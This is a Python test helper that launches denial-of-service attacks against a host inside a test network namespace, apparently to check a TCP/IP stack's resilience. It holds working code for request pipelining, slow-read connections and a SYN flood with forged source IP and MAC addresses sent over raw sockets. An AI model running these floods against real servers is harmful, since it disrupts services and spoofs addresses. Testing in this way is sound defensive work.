#!/usr/bin/env python3
"""Hostile clients for tests/tcpip/attacks, run inside the test's network namespace.

  attacker.py pipeline N HOST PORT      N connections that pipeline requests and never read
  attacker.py slowread N HOST PORT PATH N connections reading a large response one byte a second
  attacker.py synflood N HOST PORT IFACE N SYNs from forged addresses, sent as fast as possible

Prints "ready: ..." once the attack is under way, then keeps it up until killed (synflood
exits when sent). Stdlib only.
"""
import os
import random
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "fuzz"))
import frames as fr  # noqa: E402


def connect(host, port, rcvbuf):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)  # before connect: a small window
    s.settimeout(5)
    s.connect((host, port))
    s.setblocking(False)
    return s


def pipeline(n, host, port):
    req = b"GET / HTTP/1.1\r\nHost: victim\r\n\r\n" * 64
    socks = [connect(host, port, 2048) for _ in range(n)]
    print(f"ready: {len(socks)} connections pipelining", flush=True)
    sent = 0
    while True:  # push requests into every connection until the server's window is closed
        for s in socks:
            try:
                sent += s.send(req)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                pass  # reset: the server let it go; keep the others going
        time.sleep(0.05)


def slowread(n, host, port, path):
    socks = []
    for _ in range(n):
        s = connect(host, port, 1024)
        s.send(f"GET {path} HTTP/1.1\r\nHost: victim\r\n\r\n".encode())
        socks.append(s)
    print(f"ready: {len(socks)} connections reading one byte a second", flush=True)
    while True:
        for s in socks:
            try:
                s.recv(1)
            except (BlockingIOError, InterruptedError, OSError):
                pass
        time.sleep(1)


def guest_mac(host, iface):
    subprocess.run(["ping", "-c", "1", "-W", "1", "-I", iface, host], capture_output=True)
    out = subprocess.run(["ip", "neigh", "show", host, "dev", iface], capture_output=True,
                         text=True).stdout.split()
    return bytes.fromhex(out[out.index("lladdr") + 1].replace(":", "")) if "lladdr" in out else None


def synflood(n, host, port, iface):
    mac = guest_mac(host, iface)
    if not mac:
        print(f"attacker: no ARP entry for {host} on {iface}", flush=True)
        sys.exit(2)
    dst = socket.inet_aton(host)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    print(f"ready: sending {n} SYNs from forged addresses", flush=True)
    rnd = random.Random(n)
    for k in range(n):
        src = bytes([10, 0, 0, rnd.randrange(3, 250)])
        smac = bytes([2, 0x66, rnd.randrange(256), rnd.randrange(256), rnd.randrange(256), 1])
        seg = fr.tcp(rnd.randrange(1024, 65535), port, rnd.getrandbits(32), 0, 0x02, options=fr.MSS_OPT,
                     src=src, dst=dst)
        s.send(fr.eth(fr.ipv4(6, seg, src=src, dst=dst, ident=k & 0xFFFF), dst=mac, src=smac))
    print(f"sent: {n} SYNs", flush=True)


def main(argv):
    mode, n = argv[1], int(argv[2])
    if mode == "pipeline":
        pipeline(n, argv[3], int(argv[4]))
    elif mode == "slowread":
        slowread(n, argv[3], int(argv[4]), argv[5])
    elif mode == "synflood":
        synflood(n, argv[3], int(argv[4]), argv[5])
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
